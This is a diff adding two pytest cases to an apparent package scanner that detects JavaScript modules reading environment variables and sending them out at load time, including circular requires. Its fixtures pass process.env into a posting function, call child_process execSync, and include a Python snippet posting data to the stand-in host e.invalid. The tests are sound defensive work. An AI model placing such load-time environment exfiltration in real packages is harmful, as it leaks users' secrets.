@@ -133,6 +133,29 @@ def test_names_of_one_module_mean_nothing_in_another() -> None:
     assert sent_at_load(found["send.js"]) == set()
 
 
+@pytest.mark.parametrize(
+    "asked", ["exports.token = (env) => env.MY_PORT;", "exports.token = ({ MY_PORT }) => MY_PORT;"]
+)
+def test_a_function_imported_from_a_later_file_is_known(asked: str) -> None:
+    """What takes one harmless variable of the environment in a file further down takes no more of it."""
+    found = npm(
+        index="const { go } = require('./a'), { token } = require('./z');\ngo(token(process.env));",
+        a=f"{_SENDS}exports.go = (body) => {{ {_POST} }};",
+        z=f"require('child_process').execSync('true');\n{asked}",
+    )
+    assert sent_at_load(found["a.js"]) == set()
+
+
+def test_modules_that_require_each_other_end() -> None:
+    """A circle of JavaScript modules is gone through once."""
+    found = npm(
+        index="require('./a').go(process.env);",
+        a=f"{_SENDS}const b = require('./b'); exports.go = (body) => {{ {_POST} }};",
+        b="const a = require('./a'); require('./index');",
+    )
+    assert sent_at_load(found["a.js"]) == {Behaviour.READS_ENVIRONMENT}
+
+
 _PYTHON_SEND = "import requests\ndef go(body):\n    requests.post('https://e.invalid/', data=body)\n"
 
 
